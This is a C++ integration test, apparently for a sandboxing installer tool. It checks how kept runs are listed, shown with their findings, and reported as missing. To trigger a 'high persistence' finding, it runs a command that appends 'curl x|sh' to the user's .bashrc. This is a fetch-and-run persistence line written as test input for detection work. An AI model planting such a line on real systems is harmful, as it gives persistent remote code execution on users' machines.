// Kept runs as a user looks them up: `runs --project DIR`, `runs --json`, `runs show RUN_ID`.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"

using namespace safeinstall::test;
using nlohmann::json;

TEST_CASE("runs: listed per project and as JSON, and one shown with its findings and changes",
          "[runs]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto held = s.run({"/bin/sh", "-c", "echo x > x.txt; echo 'curl x|sh' >> \"$HOME/.bashrc\""}, {},
                    kCleanCiEnv);
  REQUIRE(held.exit_code() == kExitSuspicious);
  std::string id = held.report.at("run_id");

  auto listed = subcommand(s, {"runs", "--json"});
  REQUIRE(listed.exit_code == 0);
  json runs = json::parse(listed.out);
  REQUIRE(runs.size() == 1);
  CHECK(runs[0].at("run_id") == id);
  CHECK(runs[0].at("project") == s.project());
  CHECK(runs[0].at("state") == "held");
  CHECK(path_exists(runs[0].at("report").get<std::string>()));

  auto mine = subcommand(s, {"runs", "--project", s.project()});
  CHECK(contains(mine.out, id));
  auto elsewhere = subcommand(s, {"runs", "--project", s.home(), "--json"});
  CHECK(json::parse(elsewhere.out).empty());

  auto shown = subcommand(s, {"runs", "show", id});
  REQUIRE(shown.exit_code == 0);
  CHECK(contains(shown.out, "run " + id));
  CHECK(contains(shown.out, "finding:   high persistence"));
  CHECK(contains(shown.out, "change:    unexpected added    x.txt"));
  CHECK(contains(shown.out, "next:      safeinstall promote " + id));
  CHECK(contains(shown.out, "report:"));

  auto as_json = subcommand(s, {"runs", "show", id, "--json"});
  CHECK(json::parse(as_json.out).at("run_id") == id);

  auto missing = subcommand(s, {"runs", "show", "20200101T000000Z-00000000"});
  CHECK(missing.exit_code == 125);
  CHECK(contains(missing.err, "\n  hint: `safeinstall runs` lists the runs kept"));
}
